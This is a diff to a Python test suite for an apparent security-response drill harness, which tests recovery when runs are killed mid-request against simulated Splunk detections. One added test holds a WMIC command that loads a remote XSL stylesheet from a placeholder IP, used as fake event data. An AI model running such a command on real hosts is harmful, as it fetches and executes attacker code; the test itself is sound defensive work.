@@ -28,6 +28,7 @@ from runner.drill_story import Quiet, choose, play_quietly
 from runner.drill_trials import Spot, Stage, Trial, die_in_flight, run_two, spoil
 from runner.drill_world import DrillWorld
 from tests.fences import ROOT
+from tests.polling import raw_hit
 
 STORY = choose("wmic-format")
 
@@ -97,7 +98,7 @@ def test_story_when_killed_again_while_recovering_then_nothing_is_lost_or_done_t
     chance = random.Random(1)  # noqa: S311
     plans = [
         [chance.randrange(1, 230), *(chance.randrange(1, 60) for _ in range(chance.randint(1, 3)))]
-        for _ in range(24)
+        for _ in range(16)
     ]
     assert faults_of(stage.crew.map(partial(trials.kill_again, stage), plans)) == ""
 
@@ -105,15 +106,18 @@ def test_story_when_killed_again_while_recovering_then_nothing_is_lost_or_done_t
 def test_story_when_killed_while_a_slow_server_has_the_request_then_it_is_found_and_not_repeated(
     stage: Stage, quiet: Quiet
 ) -> None:
-    done = stage.crew.map(partial(trials.kill_in_flight, stage), quiet.spots)
+    # Each kind, and some more; `make soak` does all of them.
+    spots = [*one_of_each(quiet.spots), *quiet.spots[1::4]]
+    done = stage.crew.map(partial(trials.kill_in_flight, stage), list(dict.fromkeys(spots)))
     assert faults_of(done) == ""
-    assert sum(trial.last.startswith("during") for trial in done) >= len(quiet.spots) - 2
+    assert sum(trial.last.startswith("during") for trial in done) >= len(done) - 2
 
 
 def test_story_when_answers_are_lost_after_the_effect_then_it_is_adopted_and_not_repeated(
     stage: Stage, quiet: Quiet
 ) -> None:
-    lost = trials.losses(quiet.spots)
+    # Each kind of request, each kind of loss; `make soak` does all pairs.
+    lost = trials.losses(quiet.spots)[::2]
     assert faults_of(stage.crew.map(partial(trials.lose_answers, stage), lost)) == ""
 
 
@@ -205,15 +209,47 @@ def test_checks_when_intents_are_not_kept_then_they_complain(stage: Stage) -> No
     assert "ledger: «WORKSTATION" in cut
 
 
+def test_checks_when_nobody_looks_for_what_was_sent_then_they_complain(stage: Stage) -> None:
+    def trial(spot: Spot, wiring: str) -> str:
+        with stage.world(f"{spot.product}-{wiring}") as world:
+            dying = world.order(point=f"after POST {spot.path}", kill_at=1)
+            assert stage.crew.send(dying).was_killed
+            stage.crew.send(world.order(wiring=wiring))
+            return judged(stage, world)
+
+    spots, wirings = [OPEN, POST, OPEN, POST], ["blind", "blind", "real", "real"]
+    with ThreadPoolExecutor(4) as pool:
+        opened, posted, *seeing = pool.map(trial, spots, wirings)
+    assert seeing == ["", ""]
+    assert "tickets: label stockade-" in opened
+    assert "cards: card ask-" in posted
+
+
+def test_checks_when_questions_claim_nothing_then_they_complain(stage: Stage) -> None:
+    def trial(wiring: str) -> list[str]:
+        with stage.world(wiring) as world:
+            # Another harmful start on the same host is a case of its own, about the same device.
+            again = r"wmic process list /format:http://198.51.100.9/other.xsl"
+            raw = raw_hit(1, "WORKSTATION5", again) | {"User": r"WORKGROUP\wardog"}
+            world.products.splunk.add_event(raw, age_s=20, index_age_s=20)
+            spoil(world, POST, times=None, delay_before_s=0.3)
+            stage.crew.send(world.order(wiring=wiring))
+            return violations(world)
+
+    claimed, unclaimed = stage.crew.map(trial, ["real", "unclaimed"])
+    assert claimed == []
+    assert any("was asked about twice at once" in text for text in unclaimed)
+
+
 def test_checks_when_nobody_waits_for_a_request_to_settle_then_they_complain(
     stage: Stage,
 ) -> None:
     def trial(spot: Spot) -> str:
         with stage.world(spot.product, settle_s=0) as world:
             # Long enough that the next runner looks before that, on a busy machine, too.
-            assert die_in_flight(stage.crew, world, spot, acts_after_s=3.0).was_killed
+            assert die_in_flight(stage.crew, world, spot, acts_after_s=8.0).was_killed
             stage.crew.send(world.order())
-            time.sleep(3.0)
+            time.sleep(8.0)
             return judged(stage, world)
 
     opened, posted, cut = stage.crew.map(trial, [OPEN, POST, CUT])
